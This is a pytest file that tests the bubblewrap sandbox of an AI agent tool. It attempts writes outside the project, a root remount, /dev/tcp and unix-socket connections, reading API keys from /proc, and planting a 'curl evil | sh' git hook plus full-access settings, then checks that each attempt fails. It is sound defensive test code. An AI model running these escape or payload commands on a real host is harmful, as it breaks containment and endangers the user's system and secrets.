"""The sandbox, as attacks on real bubblewrap: a `bash` call (and a Python cell, and a real `eukhe
run`) tries to write outside the project, to undo the read-only binds with a remount, to reach a
listener on loopback, PostgreSQL's unix socket and the owner's, to change the home's settings and
`.git/hooks`, and to see the host's /tmp; each fails.

Each attack succeeds without the sandbox: run this file with EUKHE_SANDBOX_TEST_UNCONFINED=1 (the
sandbox's mode becomes danger-full-access) and every attack test fails. The remount attack is not
run unconfined (it would remount the host's root); its test shows instead that it succeeds in a
bubblewrap without `--cap-drop ALL`, as root.
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from eukhe.client.protocol import socket_folder, socket_path
from eukhe.kernel import Kernel
from eukhe.sandbox.bwrap import FULL_ACCESS, READ_ONLY, WORKSPACE_WRITE, Sandbox, argv, why_not
from eukhe.sandbox.session import for_run, session_tmp
from eukhe.settings import loaded
from eukhe.tools import Context, Result
from eukhe.tools.bash import BASH

WHY_NOT = why_not()
needs_bwrap = pytest.mark.skipif(
    WHY_NOT is not None,
    reason=f"{WHY_NOT}: apt-get install bubblewrap (make test does, as root)",
)
UNCONFINED = os.environ.get("EUKHE_SANDBOX_TEST_UNCONFINED") == "1"
"""Run the attacks without the sandbox, to see them succeed (every attack test then fails)."""
PG_SOCKET = Path("/var/run/postgresql/.s.PGSQL.5432")
PYTHON = shutil.which("python3") or "python3"


@dataclasses.dataclass
class Place:
    project: Path
    home: Path
    box: Sandbox


def place(root: Path, settings: dict[str, object] | None = None, home: Path | None = None) -> Place:
    project = root / "project"
    (project / ".git" / "hooks").mkdir(parents=True)
    home = home or root / "home"
    home.mkdir(parents=True, exist_ok=True)
    (home / "settings.json").write_text('{"model": "vllm/m"}')
    box = for_run(
        settings or {}, project, home, f"session-{uuid.uuid4().hex}", user_home=Path.home(),
        temp=Path(tempfile.gettempdir()),
    )  # fmt: skip
    if UNCONFINED:
        box = dataclasses.replace(box, mode=FULL_ACCESS)
    return Place(project, home, box)


@pytest.fixture
def at(tmp_path: Path) -> Place:
    return place(tmp_path)


@pytest.fixture
def outside() -> Iterator[Path]:
    """A host folder outside the project and outside /tmp (the sandbox's /tmp is its own)."""
    d = Path(tempfile.mkdtemp(prefix="eukhe-sandbox-test-", dir="/var/tmp"))
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


def bash(box: Sandbox, command: str, cwd: Path | None = None) -> Result:
    ctx = Context(cwd or box.project, sandbox=box)
    return asyncio.run(BASH.run({"command": command, "timeout": 30}, ctx))


@contextlib.contextmanager
def listener(family: int, address: object) -> Iterator[tuple[list[bytes], object]]:
    """A real server socket at `address`: what connections sent it, and where it listens."""
    got: list[bytes] = []
    server = socket.socket(family, socket.SOCK_STREAM)
    server.bind(address)
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    got.append(conn.recv(100))

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        yield got, server.getsockname()
    finally:
        stop.set()
        t.join(5)
        server.close()


def connect_unix(path: Path) -> str:
    code = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{path}'); s.send(b'hi')"
    return f'{PYTHON} -c "{code}"'


# --- the attacks --------------------------------------------------------------------------------------


@needs_bwrap
def test_a_write_outside_the_project_fails(at: Place, outside: Path) -> None:
    r = bash(at.box, f"echo pwned > {outside}/x")
    assert not (outside / "x").exists(), r.content
    assert "Read-only file system" in r.content and r.is_error, r.content
    beside = bash(at.box, f"echo pwned > {at.project.parent}/beside")  # lands in the session's /tmp
    assert not (at.project.parent / "beside").exists(), beside.content
    inside = bash(at.box, "echo fine > made.txt && cat made.txt")
    assert inside.content.startswith("fine\n") and not inside.is_error, inside.content


@needs_bwrap
def test_a_remount_from_inside_cannot_undo_the_read_only_binds(at: Place, outside: Path) -> None:
    """As root, bubblewrap keeps its capabilities and a remount makes / writable again: shown in a
    bubblewrap without `--cap-drop ALL`; the sandbox drops them, and the remount fails."""
    attack = f"mount -o remount,bind,rw / && echo pwned > {outside}/x"
    if os.geteuid() == 0:
        weak = [a for a in argv(at.box, ["bash", "-c", attack], at.project) if a not in ("--cap-drop", "ALL")]
        done = subprocess.run(weak, capture_output=True, text=True, timeout=30)
        assert (outside / "x").exists(), f"the remount did not work even without --cap-drop: {done.stderr}"
        (outside / "x").unlink()
    if UNCONFINED:
        pytest.skip("not run unconfined: it would remount the host's root")
    r = bash(at.box, attack)
    assert not (outside / "x").exists(), r.content
    assert r.is_error, r.content


@needs_bwrap
def test_no_socket_to_loopback_without_sandbox_network(tmp_path: Path) -> None:
    with listener(socket.AF_INET, ("127.0.0.1", 0)) as (got, (_, port)):
        send = f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo hello >&3"
        r = bash(place(tmp_path / "a").box, send)
        assert got == [], r.content
        assert r.is_error, r.content
        if not UNCONFINED:  # the setting opens it
            opened = bash(place(tmp_path / "b", {"sandbox": {"network": True}}).box, send)
            assert not opened.is_error, opened.content


@needs_bwrap
@pytest.mark.skipif(not PG_SOCKET.exists(), reason=f"no PostgreSQL socket at {PG_SOCKET} on this machine")
def test_postgresqls_unix_socket_cannot_be_reached(at: Place) -> None:
    """--unshare-net hides no socket reached by path: with trust auth, `COPY ... TO PROGRAM` would
    run a command outside. /run is hidden."""
    r = bash(at.box, connect_unix(PG_SOCKET))
    assert r.is_error and "No such file or directory" in r.content, r.content


@needs_bwrap
def test_the_owners_socket_cannot_be_reached(tmp_path: Path) -> None:
    """In the home, and in the temp dir's folder for homes whose path is too long."""
    at = place(tmp_path)
    long_home = tmp_path / ("h" * 60) / ("o" * 60)
    far = place(tmp_path / "far", home=long_home)
    for p in (at, far):
        path = socket_path(p.home)
        socket_folder(p.home, make=True)
        try:
            with listener(socket.AF_UNIX, str(path)) as (got, _):
                r = bash(p.box, connect_unix(path))
                assert got == [], r.content
                assert r.is_error, r.content
        finally:
            path.unlink(missing_ok=True)
    assert socket_path(long_home).parent == Path(tempfile.gettempdir()) / f"eukhe-{os.getuid()}"


@needs_bwrap
def test_the_homes_settings_and_git_hooks_cannot_be_changed(tmp_path: Path) -> None:
    """Neither a home outside the project nor one inside it (as the tests' homes are); nor .eukhe/
    and .mcp.json: what runs later, outside the sandbox."""
    for at in (place(tmp_path / "a"), place(tmp_path / "b", home=tmp_path / "b" / "project" / "home")):
        (at.project / ".eukhe").mkdir()
        (at.project / ".eukhe" / "settings.json").write_text("{}")
        (at.project / ".mcp.json").write_text("{}")
        settings = at.home / "settings.json"
        before = settings.read_text()
        hook = at.project / ".git" / "hooks" / "pre-commit"
        evil = '{"sandbox": {"mode": "danger-full-access"}}'
        r = bash(
            at.box,
            f"echo '{evil}' > {settings}; echo 'curl evil | sh' > {hook}; chmod +x {hook}; "
            f"echo '{evil}' > .eukhe/settings.json; echo '{{\"mcpServers\": {{}}}}' > .mcp.json",
        )
        assert settings.read_text() == before, r.content
        assert not hook.exists(), r.content
        assert (at.project / ".eukhe" / "settings.json").read_text() == "{}", r.content
        assert (at.project / ".mcp.json").read_text() == "{}", r.content


@needs_bwrap
def test_another_processs_environment_is_out_of_sight_in_proc(at: Place) -> None:
    """eukhe's own environment holds the provider keys the tools' lacks: /proc is the sandbox's own."""
    secret = f"sk-{uuid.uuid4().hex}"
    holder = subprocess.Popen(["sleep", "60"], env={**os.environ, "EUKHE_TEST_KEY": secret})
    try:
        r = bash(at.box, f"cat /proc/{holder.pid}/environ | tr '\\0' '\\n' | grep EUKHE_TEST_KEY")
    finally:
        holder.kill()
        holder.wait()
    assert secret not in r.content and r.is_error, r.content


@needs_bwrap
def test_tmp_lasts_across_a_sessions_calls_and_is_not_the_hosts(at: Place) -> None:
    name = f"eukhe-sandbox-test-{uuid.uuid4().hex}"
    host, script = Path("/tmp") / name, Path("/tmp") / f"{name}.sh"
    host.write_text("the host's")
    try:
        first = bash(at.box, f"cat {host} || true; printf 'echo ran from tmp' > {script}")
        assert "the host's" not in first.content, first.content
        second = bash(at.box, f"bash {script}")
        assert second.content.startswith("ran from tmp"), second.content
        assert not script.exists(), "the command wrote in the host's /tmp"
        assert (at.box.tmp / script.name).exists(), "the session's /tmp is its folder in the home"
    finally:
        host.unlink()
        script.unlink(missing_ok=True)


@needs_bwrap
def test_a_kernel_cell_and_its_bash_run_inside_the_sandbox(at: Place, outside: Path) -> None:
    async def go() -> tuple[Result, Result, list[int], list[int]]:
        k = Kernel(at.project, budget_ms=20_000, sandbox=at.box)
        try:
            cell = await k.execute(f"open('{outside}/cell', 'w').write('pwned')", asyncio.Event())
            command = f"echo pwned > {outside}/job; echo pwned > made.txt"
            job = await k.execute(f"h = bash({command!r}); h.wait(10); print(h.output())", asyncio.Event())
            during = k.pids()
        finally:
            await k.close()
        return cell, job, during, k.pids()

    cell, job, during, after = asyncio.run(go())
    assert not (outside / "cell").exists(), cell.content
    assert not (outside / "job").exists(), job.content
    assert "Read-only file system" in cell.content and cell.is_error, cell.content
    assert (at.project / "made.txt").read_text() == "pwned\n", job.content  # the project is writable
    assert during and after == [], "the kernel's processes outlived close"


@needs_bwrap
def test_an_eukhe_run_whose_bash_writes_outside_the_project_gets_the_failure(
    tmp_path: Path, outside: Path
) -> None:
    """End to end: `eukhe run` against the faux model, with no sandbox setting (workspace-write)."""
    from eukhe.ai.faux import FauxServer, parse
    from tests.proc import eukhe, messages, sessions

    project, home = tmp_path / "project", tmp_path / "home"
    project.mkdir()
    home.mkdir()
    if UNCONFINED:
        (home / "settings.json").write_text(json.dumps({"sandbox": {"mode": "danger-full-access"}}))
    write = {"calls": [{"name": "bash", "arguments": {"command": f"echo pwned > {outside}/x"}}]}
    with FauxServer(parse([write, "done"])) as server:
        done = eukhe("run", "--model", "vllm/m", "--base-url", server.url, "go", cwd=project, home=home)
    assert done.returncode == 0, done.stderr
    [row] = sessions(project, home)
    [result] = [str(m["content"]) for m in messages(row["id"], project, home) if m["role"] == "tool"]
    assert not (outside / "x").exists(), result
    assert "Read-only file system" in result and "exit code 1" in result, result


# --- without bubblewrap, and the argv ------------------------------------------------------------------


def test_where_bubblewrap_cannot_run_bash_and_cells_are_refused_but_in_full_access(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    box = Sandbox(WORKSPACE_WRITE, project, tmp_path / "tmp", unavailable="bubblewrap is not installed")
    r = bash(box, "echo ran > ran.txt")
    assert r.is_error and not (project / "ran.txt").exists(), r.content
    assert r.content.startswith("not run: sandbox.mode is 'workspace-write'"), r.content
    fix = "cannot run here: bubblewrap is not installed. Install bubblewrap (apt-get install bubblewrap)"
    assert fix in r.content, r.content
    assert box.notice() is not None and "bubblewrap is not installed" in box.notice()

    async def cell() -> Result:
        k = Kernel(project, sandbox=box)
        try:
            return await k.execute("open('ran.txt', 'w')", asyncio.Event())
        finally:
            await k.close()

    refused = asyncio.run(cell())
    assert refused.is_error and refused.content == r.content and not (project / "ran.txt").exists()

    full = dataclasses.replace(box, mode=FULL_ACCESS)
    assert full.notice() is None
    ran = bash(full, "echo ran > ran.txt")
    assert not ran.is_error and (project / "ran.txt").exists(), ran.content
    assert not bash(box.outside(), "true").is_error  # a call a person let out runs unconfined


def test_why_not_names_a_missing_bubblewrap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    assert why_not() == "bubblewrap is not installed (no bwrap on PATH)"


def test_the_argv_hides_before_it_binds_and_protects_git(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    home = project / "home"  # inside the project: hidden again after the project's bind
    home.mkdir()
    box = Sandbox(WORKSPACE_WRITE, project, tmp_path / "t", hidden=(home,), binds=(tmp_path / "ipc",))
    (tmp_path / "ipc").mkdir()
    a = argv(box, ["bash", "-c", "true"], project)
    flat = " ".join(a)
    p, h = os.path.realpath(project), os.path.realpath(home)
    assert a[:8] == ["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc"]
    assert flat.index("--tmpfs /run") < flat.index(f"--bind {p} {p}") < flat.index(f"--tmpfs {h}")
    assert flat.index(f"--tmpfs {h}") < flat.index(f"--ro-bind-try {p}/.git {p}/.git")
    assert f"--bind {box.tmp} /tmp" in flat
    assert a[-4:] == ["--", "bash", "-c", "true"]
    assert {"--unshare-net", "--unshare-pid", "--die-with-parent", "--new-session"} <= set(a)
    assert a[a.index("--cap-drop") + 1] == "ALL"
    assert "--tmpfs /var/run" not in flat  # a link to /run: hidden with it
    opened = argv(dataclasses.replace(box, network=True, writable=(project / ".git",)), ["true"], project)
    assert "--unshare-net" not in opened and f"--ro-bind-try {p}/.git" not in " ".join(opened)
    ro = " ".join(argv(dataclasses.replace(box, mode=READ_ONLY, writable=(tmp_path,)), ["true"], project))
    assert f"--ro-bind {p} {p}" in ro and f"--bind {p} " not in ro and f"--bind-try {tmp_path}" not in ro
    (home / "venv").mkdir()
    (project / ".venv").mkdir()
    python = argv(box.reading(home / "venv", project / ".venv"), ["true"], project)
    assert f"--ro-bind-try {h}/venv {h}/venv" in " ".join(python)  # the kernel's Python, in a hidden home
    assert f"{p}/.venv" not in python  # the project's own stays writable


def test_an_untrusted_project_may_narrow_the_sandbox_but_not_widen_it(tmp_path: Path) -> None:
    home, repo = tmp_path / "home", tmp_path / "repo"
    home.mkdir()
    (repo / ".eukhe").mkdir(parents=True)
    wide = {"sandbox": {"mode": "danger-full-access", "writable": ["/"], "network": True}}
    (repo / ".eukhe" / "settings.json").write_text(json.dumps(wide))
    got = loaded(repo, env={"EUKHE_HOME": str(home)})
    assert {h.key for h in got.held} == {"sandbox.mode", "sandbox.writable", "sandbox.network"}
    box = for_run(got.values, repo, home, "s", user_home=tmp_path, temp=tmp_path, probe=lambda: None)
    assert (box.mode, box.writable, box.network) == (WORKSPACE_WRITE, (), False)
    (repo / ".eukhe" / "settings.json").write_text(json.dumps({"sandbox": {"mode": "read-only"}}))
    narrow = loaded(repo, env={"EUKHE_HOME": str(home)}).values
    box = for_run(narrow, repo, home, "s", user_home=tmp_path, temp=tmp_path, probe=lambda: None)
    assert box.mode == READ_ONLY
    flagged = for_run(narrow, repo, home, "s", user_home=tmp_path, temp=tmp_path, flag=FULL_ACCESS)
    assert flagged.mode == FULL_ACCESS  # --sandbox, the user's own, over the settings
    mine = {"sandbox": {"mode": "read-only", "writable": ["~/cache", "build", "/srv/x"]}}
    box = for_run(mine, repo, home, "s", user_home=tmp_path, temp=tmp_path, probe=lambda: None)
    assert box.mode == READ_ONLY
    assert box.writable == (tmp_path / "cache", repo / "build", Path("/srv/x"))
    assert box.tmp == session_tmp(home, "s") and box.tmp.is_dir()
